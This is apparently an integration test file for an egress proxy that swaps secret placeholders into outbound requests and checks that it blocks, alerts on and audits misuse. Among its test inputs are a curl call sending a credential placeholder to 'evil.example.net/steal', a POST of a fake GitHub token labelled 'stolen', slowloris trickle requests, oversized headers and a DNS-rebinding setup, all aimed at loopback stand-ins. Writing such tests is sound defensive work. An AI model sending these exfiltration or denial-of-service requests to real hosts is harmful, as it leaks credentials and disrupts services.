/**
 * The network door end to end over real sockets: curl and Node's fetch (undici
 * ProxyAgent) through the egress proxy to loopback HTTPS origins with their own
 * certificates standing in for public hosts; placeholders swapped only on the
 * secret's hosts, exfiltration attempts blocked, alerted and audited; the bad
 * input the issue lists, each with its status and audit record.
 */
import assert from 'node:assert/strict';
import { execFile } from 'node:child_process';
import { Readable } from 'node:stream';
import { after, before, describe, test } from 'node:test';
import { promisify } from 'node:util';
import { ProxyAgent, fetch as undiciFetch } from 'undici';
import type { AuditRecord } from '../../src/audit/types.ts';
import { Secret } from '../../src/util/secret.ts';
import {
  EGRESS_KEY,
  makeCert,
  proxyAuth,
  rawExchange,
  reasonOf,
  startEgress,
  startOrigin,
  statusOf,
  type Origin,
  type TestEgress,
} from '../helpers/egress.ts';
import { tempDir } from '../helpers/gateway.ts';

const run = promisify(execFile);

/** A value shaped like a GitHub token, so DLP and redaction have something real to find. */
const GITHUB_VALUE = 'ghp_' + 'R3alV4lue'.repeat(4);
/** A second token, stored without a header and opted in to query and body swaps (`swapIn`). */
const ANYWHERE_VALUE = 'ghp_' + 'Anywh3re0'.repeat(4);

async function curl(args: string[]): Promise<{ code: number; stdout: string; stderr: string }> {
  try {
    const r = await run('curl', ['-sS', '--max-time', '10', ...args], { encoding: 'utf8' });
    return { code: 0, stdout: r.stdout, stderr: r.stderr };
  } catch (err) {
    const e = err as { code?: number; stdout?: string; stderr?: string };
    return { code: typeof e.code === 'number' ? e.code : -1, stdout: e.stdout ?? '', stderr: e.stderr ?? '' };
  }
}

async function records(eg: TestEgress): Promise<AuditRecord[]> {
  await eg.gateway.audit.flush();
  return eg.gateway.store.readAudit(1, 100_000);
}

describe('network door', () => {
  let github: Origin;
  let evil: Origin;
  let plain: Origin;
  let eg: TestEgress;
  let ph: string;
  let otherPh: string;
  let anyPh: string;
  let curlProxy: string;
  const certDir = tempDir();
  const githubCert = makeCert(certDir, ['api.github.com'], 'github');
  const evilCert = makeCert(certDir, ['evil.example.net'], 'evil');

  before(async () => {
    github = await startOrigin(githubCert);
    evil = await startOrigin(evilCert);
    plain = await startOrigin();
    eg = await startEgress(
      `version: 1
server: { listen: 127.0.0.1:0, egress: 127.0.0.1:0 }
store: { sqlite: ./b.db }
secrets:
  github: { hosts: [api.github.com] }
  dollars: { hosts: [api.github.com] }
  anywhere: { hosts: [api.github.com], swapIn: [header, query, body] }
egress:
  staticHosts: { api.github.com: [127.0.0.1], evil.example.net: [127.0.0.1], plain.example.net: [127.0.0.1] }
  maxBodyBytes: 65536
  maxHeaderBytes: 4096
  headersTimeoutMs: 600
  bodyTimeoutMs: 600
agents:
  demo:
    keys: [env:EGRESS_KEY]
    secrets: [github, dollars, anywhere]
    network:
      - "api.github.com:${github.port}"
      - { host: evil.example.net, ports: [${evil.port}], methods: [GET, POST] }
      - "plain.example.net:${plain.port}"
    unsafeAllowPrivate: { ranges: [127.0.0.1/32] }
  other:
    keys: [env:OTHER_EGRESS_KEY]
    secrets: [github]
    network: ["api.github.com:${github.port}"]
    unsafeAllowPrivate: { ranges: [127.0.0.1/32] }
`,
      { upstreamCa: [githubCert.cert, evilCert.cert] },
    );
    await eg.door.vault.add('github', new Secret(GITHUB_VALUE), { hosts: ['api.github.com'], header: 'Authorization', format: 'token {}' });
    ph = await eg.door.vault.placeholder('github', 'demo');
    await eg.door.vault.add('anywhere', new Secret(ANYWHERE_VALUE), { hosts: ['api.github.com'] });
    anyPh = await eg.door.vault.placeholder('anywhere', 'demo');
    otherPh = await eg.door.vault.placeholder('github', 'other');
    curlProxy = `http://demo:${EGRESS_KEY}@${eg.proxyUrl.host}`;
  });

  after(async () => {
    await eg?.close();
    await Promise.all([github?.close(), evil?.close(), plain?.close()]);
  });

  test('curl -x: a placeholder in a header reaches api.github.com as the real value, and the echo comes back redacted', async () => {
    const n = github.received.length;
    const r = await curl(['-x', curlProxy, '--cacert', eg.caFile, '-H', `X-Token: Bearer ${anyPh}`, `https://api.github.com:${github.port}/echo`]);
    assert.equal(r.code, 0, r.stderr);
    const got = github.received[n];
    assert.equal(got?.headers['x-token'], `Bearer ${ANYWHERE_VALUE}`);
    assert.ok(!r.stdout.includes(ANYWHERE_VALUE), 'the echoed value is redacted');
    assert.ok(r.stdout.includes('[REDACTED:vault-secret]'));
  });

  test('the bound header gets the configured format when it holds the bare placeholder', async () => {
    const n = github.received.length;
    const r = await curl(['-x', curlProxy, '--cacert', eg.caFile, '-H', `Authorization: ${ph}`, `https://api.github.com:${github.port}/x`]);
    assert.equal(r.code, 0, r.stderr);
    assert.equal(github.received[n]?.headers.authorization, `token ${GITHUB_VALUE}`);
  });

  test('a value holding $& or $\' is sent as it is in the formatted header (no replacement patterns)', async () => {
    const value = "sk_$&_$'_$`_$$_" + 'x'.repeat(24);
    await eg.door.vault.add('dollars', new Secret(value), { hosts: ['api.github.com'], header: 'Authorization', format: 'token {}' });
    const dph = await eg.door.vault.placeholder('dollars', 'demo');
    const n = github.received.length;
    const r = await curl(['-x', curlProxy, '--cacert', eg.caFile, '-H', `Authorization: ${dph}`, `https://api.github.com:${github.port}/x`]);
    assert.equal(r.code, 0, r.stderr);
    assert.equal(github.received[n]?.headers.authorization, `token ${value}`);
  });

  test("Node's fetch through the proxy (undici ProxyAgent): placeholders in the query and a chunked body split mid-placeholder are swapped", async () => {
    const agent = new ProxyAgent({ uri: eg.proxyUrl.href, token: proxyAuth(), requestTls: { ca: eg.caPem } });
    try {
      const n = github.received.length;
      const text = `{"token":"${anyPh}"}`;
      const cut = text.indexOf(anyPh) + 11;
      // Three chunks, the placeholder split across the first two: Transfer-Encoding: chunked.
      const body = Readable.from([Buffer.from(text.slice(0, cut)), Buffer.from(text.slice(cut, cut + 20)), Buffer.from(text.slice(cut + 20))]);
      const res = await undiciFetch(`https://api.github.com:${github.port}/echo?key=${anyPh}`, { method: 'POST', body, duplex: 'half', dispatcher: agent } as never);
      assert.equal(res.status, 200);
      const echoed = await res.text();
      const got = github.received[n];
      assert.equal(got?.headers['transfer-encoding'], undefined, 'forwarded with a length after inspection');
      assert.equal(got?.body.toString('utf8'), `{"token":"${ANYWHERE_VALUE}"}`);
      assert.equal(got?.url, `/echo?key=${ANYWHERE_VALUE}`);
      assert.ok(!echoed.includes(ANYWHERE_VALUE));
    } finally {
      await agent.close();
    }
  });

  test('a gzip-encoded echo is decoded and redacted too', async () => {
    const r = await curl(['-x', curlProxy, '--cacert', eg.caFile, '--compressed', '-H', `X-Token: ${anyPh}`, `https://api.github.com:${github.port}/gzip-echo`]);
    assert.equal(r.code, 0, r.stderr);
    assert.ok(r.stdout.includes('[REDACTED:vault-secret]'));
    assert.ok(!r.stdout.includes(ANYWHERE_VALUE));
  });

  test('the same placeholder headed for another host is blocked (403, reason code), alerted and audited as exfiltration', async () => {
    const before = evil.received.length;
    const alerts = eg.alerts.length;
    const r = await curl(['-x', curlProxy, '--cacert', eg.caFile, '-i', '-H', `Authorization: Bearer ${ph}`, `https://evil.example.net:${evil.port}/steal`]);
    assert.equal(r.code, 0, r.stderr);
    assert.match(r.stdout, /^HTTP\/1\.1 403/m);
    assert.match(r.stdout, /bastion-reason: release\.foreign_host/i);
    assert.equal(evil.received.length, before, 'nothing reached the foreign host');
    assert.deepEqual(eg.alerts.slice(alerts), [{ kind: 'exfiltration', agent: 'demo', host: 'evil.example.net', reason: 'release.foreign_host', secrets: ['github'] }]);
    const rec = (await records(eg)).findLast((x) => x.decision.reason === 'release.foreign_host');
    assert.equal(rec?.door, 'network');
    assert.equal(rec?.detail?.alert, 'exfiltration');
    assert.deepEqual(rec?.detail?.secrets, ['github']);
  });

  test('plain HTTP: a placeholder is never swapped into cleartext, even toward its own name', async () => {
    const r = await curl(['-x', curlProxy, '-i', '-H', `X-Token: ${anyPh}`, `http://plain.example.net:${plain.port}/`]);
    assert.match(r.stdout, /^HTTP\/1\.1 403/m);
    assert.match(r.stdout, /bastion-reason: release\.foreign_host/i);
  });

  test('unknown placeholders block the same way: forged, another agent’s, and revoked', async () => {
    const forged = 'bst_ph_' + 'a'.repeat(32);
    for (const p of [forged, otherPh]) {
      const r = await curl(['-x', curlProxy, '--cacert', eg.caFile, '-i', '-H', `X-Token: ${p}`, `https://api.github.com:${github.port}/x`]);
      assert.match(r.stdout, /^HTTP\/1\.1 403/m, p === forged ? 'forged' : 'other agent');
      assert.match(r.stdout, /bastion-reason: placeholder\.unknown/i);
    }
    await eg.door.vault.add('temp', new Secret('temp-value-1234567890'), { hosts: ['api.github.com'] });
    const tempPh = await eg.door.vault.placeholder('temp', 'demo');
    await eg.door.vault.revoke('temp');
    const r = await curl(['-x', curlProxy, '--cacert', eg.caFile, '-i', '-H', `X-Token: ${tempPh}`, `https://api.github.com:${github.port}/x`]);
    assert.match(r.stdout, /bastion-reason: placeholder\.unknown/i);
  });

  test('outbound DLP: a real credential leaving for a host it does not belong to is blocked', async () => {
    const leaked = 'ghp_' + 'L34kedT0ken'.repeat(3) + 'abc';
    const r = await curl(['-x', curlProxy, '-i', '-d', `stolen=${leaked}`, `http://plain.example.net:${plain.port}/upload`]);
    assert.match(r.stdout, /^HTTP\/1\.1 403/m);
    assert.match(r.stdout, /bastion-reason: dlp\.credential/i);
    assert.ok(!plain.received.some((x) => x.body.toString().includes(leaked)));
  });

  test('no proxy credentials, or a wrong key: 407 with Proxy-Authenticate, audited', async () => {
    // A 407 keeps the connection open for the retry with credentials: read what came within 500 ms.
    const none = await rawExchange(Number(eg.proxyUrl.port), [`GET http://plain.example.net:${plain.port}/ HTTP/1.1\r\nHost: plain.example.net\r\n\r\n`], { timeoutMs: 500 });
    assert.equal(statusOf(none), 407);
    assert.match(none, /proxy-authenticate: Basic/i);
    const wrong = await rawExchange(Number(eg.proxyUrl.port), [`CONNECT api.github.com:${github.port} HTTP/1.1\r\nProxy-Authorization: ${proxyAuth('not-a-valid-key-0123456789')}\r\n\r\n`]);
    assert.equal(statusOf(wrong), 407);
    assert.equal(reasonOf(wrong), 'auth.invalid');
  });

  test('CONNECT to a port the allowlist does not name is refused', async () => {
    const r = await rawExchange(Number(eg.proxyUrl.port), [`CONNECT api.github.com:22 HTTP/1.1\r\nProxy-Authorization: ${proxyAuth()}\r\n\r\n`]);
    assert.equal(statusOf(r), 403);
    assert.equal(reasonOf(r), 'policy.no_permit');
  });

  test('malformed request lines and absurd headers get 400 and 431, and each is audited', async () => {
    const port = Number(eg.proxyUrl.port);
    const bad = await rawExchange(port, ['GET\x00 /x HTTP/9.9\r\n\r\n']);
    assert.equal(statusOf(bad), 400);
    const huge = await rawExchange(port, [`GET http://plain.example.net/ HTTP/1.1\r\nX-Big: ${'a'.repeat(8192)}\r\n\r\n`]);
    assert.equal(statusOf(huge), 431);
    const recs = await records(eg);
    assert.ok(recs.some((r) => r.decision.reason === 'request.malformed'));
    assert.ok(recs.some((r) => r.decision.reason === 'request.header_too_large' && r.detail?.status === 431));
  });

  test('slowloris: a head trickled slower than headersTimeoutMs, or a body slower than bodyTimeoutMs, gets 408', async () => {
    const port = Number(eg.proxyUrl.port);
    const started = Date.now();
    const slowHead = await rawExchange(port, ['GET http://plain.example.net/ HTTP/1.1\r\n', 'X-A: 1\r\n', 'X-B: 2\r\n', 'X-C: 3\r\n', 'X-D: 4\r\n'], { gapMs: 400, timeoutMs: 8_000 });
    assert.equal(statusOf(slowHead), 408);
    assert.ok(Date.now() - started < 6_000);
    const slowBody = await rawExchange(
      port,
      [`POST http://plain.example.net:${plain.port}/ HTTP/1.1\r\nHost: plain.example.net\r\nProxy-Authorization: ${proxyAuth()}\r\nContent-Length: 100\r\n\r\n`, 'a', 'b', 'c'],
      { gapMs: 500, timeoutMs: 8_000 },
    );
    assert.equal(statusOf(slowBody), 408);
    assert.equal(reasonOf(slowBody), 'body.timeout');
  });

  test('a body over egress.maxBodyBytes gets 413, also when chunked', async () => {
    const chunk = `${(40_000).toString(16)}\r\n${'x'.repeat(40_000)}\r\n`;
    const r = await rawExchange(Number(eg.proxyUrl.port), [
      `POST http://plain.example.net:${plain.port}/ HTTP/1.1\r\nHost: plain.example.net\r\nProxy-Authorization: ${proxyAuth()}\r\nTransfer-Encoding: chunked\r\n\r\n`,
      chunk,
      chunk,
      '0\r\n\r\n',
    ]);
    assert.equal(statusOf(r), 413);
    assert.equal(reasonOf(r), 'body.too_large');
  });

  test('an upstream that resets the connection gets 502 upstream.reset, audited, and the proxy keeps serving', async () => {
    const r = await curl(['-x', curlProxy, '--cacert', eg.caFile, '-i', `https://api.github.com:${github.port}/reset`]);
    assert.match(r.stdout, /^HTTP\/1\.1 502/m);
    assert.match(r.stdout, /bastion-reason: upstream\.reset/i);
    const ok = await curl(['-x', curlProxy, '--cacert', eg.caFile, `https://api.github.com:${github.port}/x`]);
    assert.equal(ok.stdout, '{"ok":true}');
    const rec = (await records(eg)).findLast((x) => x.decision.reason === 'upstream.reset');
    assert.equal(rec?.detail?.status, 502);
  });

  test('hosts without a secret or a method/path rule are tunnelled, not intercepted', async () => {
    const r = await curl(['-x', curlProxy, '--cacert', eg.caFile, `https://api.github.com:${github.port}/x`]);
    assert.equal(r.code, 0);
    // evil.example.net has a methods rule: intercepted, so a DELETE is refused inside the tunnel.
    const del = await curl(['-x', curlProxy, '--cacert', eg.caFile, '-i', '-X', 'DELETE', `https://evil.example.net:${evil.port}/x`]);
    assert.match(del.stdout, /^HTTP\/1\.1 403/m);
    assert.match(del.stdout, /bastion-reason: policy\.no_permit/i);
  });

  test('base-URL mode: /egress/<host>/<path> with the agent key forwards under the same rules, and redirects point back through Bastion', async () => {
    const base = `${eg.running.url.origin}/egress/api.github.com:${github.port}`;
    const n = github.received.length;
    const res = await fetch(`${base}/echo`, { headers: { 'bastion-key': EGRESS_KEY, authorization: ph } });
    assert.equal(res.status, 200);
    assert.equal(github.received[n]?.headers.authorization, `token ${GITHUB_VALUE}`);
    assert.equal(github.received[n]?.headers['bastion-key'], undefined, 'the agent key is not forwarded');
    const redirect = await fetch(`${base}/redirect?to=${encodeURIComponent(`https://evil.example.net:${evil.port}/next`)}`, { headers: { 'bastion-key': EGRESS_KEY }, redirect: 'manual' });
    assert.equal(redirect.status, 302);
    assert.equal(redirect.headers.get('location'), `/egress/evil.example.net:${evil.port}/next`);
    const unauth = await fetch(`${base}/x`);
    assert.equal(unauth.status, 401);
  });

  test('every proxied request has one audit record with the fields the issue names, and no value or placeholder anywhere in the chain', async () => {
    const recs = (await records(eg)).filter((r) => r.door === 'network');
    assert.ok(recs.length > 15);
    const swapped = recs.find((r) => Array.isArray(r.detail?.secrets) && r.decision.effect === 'allow');
    assert.ok(swapped, 'a record names the swapped secret');
    for (const k of ['mode', 'address', 'status', 'bytesOut', 'bytesIn']) assert.ok(swapped.detail && k in swapped.detail, k);
    assert.equal(swapped.agent, 'demo');
    assert.match(swapped.target ?? '', /^api\.github\.com:\d+$/);
    const all = JSON.stringify(await records(eg));
    assert.ok(!all.includes(GITHUB_VALUE), 'no secret value in the audit chain');
    assert.ok(!all.includes(ph), 'no placeholder in the audit chain');
  });

  test('the audit signing key is sealed under the vault key at rest', async () => {
    const key = await eg.gateway.store.getKey('audit');
    assert.ok(key?.privateKeyPem.startsWith('sealed:v1:'));
    assert.doesNotMatch(key?.privateKeyPem ?? '', /PRIVATE KEY/);
    await eg.gateway.audit.checkpoint();
    const cps = await eg.gateway.store.listCheckpoints();
    assert.ok(cps.length > 0, 'a checkpoint was signed with the sealed key');
  });
});

describe('network door: DNS rebinding', () => {
  test('an answer that changes from an allowed to a private address between lookups never connects to the private one', async () => {
    const privateOrigin = await startOrigin();
    // The stand-in for a public address: 127.0.0.2, allowed for this agent by an explicit /32 exception.
    const { createServer } = await import('node:http');
    const publicHits: string[] = [];
    const publicServer = createServer((req, res) => {
      publicHits.push(req.url ?? '');
      res.end('public');
    });
    await new Promise<void>((resolve) => publicServer.listen(privateOrigin.port, '127.0.0.2', resolve));
    const answers = ['127.0.0.2', '127.0.0.1'];
    let lookups = 0;
    const eg = await startEgress(
      `version: 1
server: { listen: 127.0.0.1:0, egress: 127.0.0.1:0 }
store: { sqlite: ./b.db }
egress: { dnsCacheMs: 0 }
agents:
  demo:
    keys: [env:EGRESS_KEY]
    network: ["rebind.example.net:${privateOrigin.port}"]
    unsafeAllowPrivate: { ranges: [127.0.0.2/32] }
`,
      { lookup: async () => [{ address: answers[Math.min(lookups++, answers.length - 1)] as string, family: 4 }] },
    );
    try {
      const proxy = `http://demo:${EGRESS_KEY}@${eg.proxyUrl.host}`;
      const first = await curl(['-x', proxy, `http://rebind.example.net:${privateOrigin.port}/one`]);
      assert.equal(first.stdout, 'public');
      assert.equal(lookups, 1, 'one lookup: the connection dialled the checked address, no second resolution');
      const second = await curl(['-x', proxy, '-i', `http://rebind.example.net:${privateOrigin.port}/two`]);
      assert.match(second.stdout, /^HTTP\/1\.1 403/m);
      assert.match(second.stdout, /bastion-reason: ssrf\.address\.loopback/i);
      assert.deepEqual(privateOrigin.received, [], 'the private address was never reached');
      assert.deepEqual(publicHits, ['/one']);
    } finally {
      await eg.close();
      await privateOrigin.close();
      await new Promise<void>((resolve) => publicServer.close(() => resolve()));
    }
  });
});
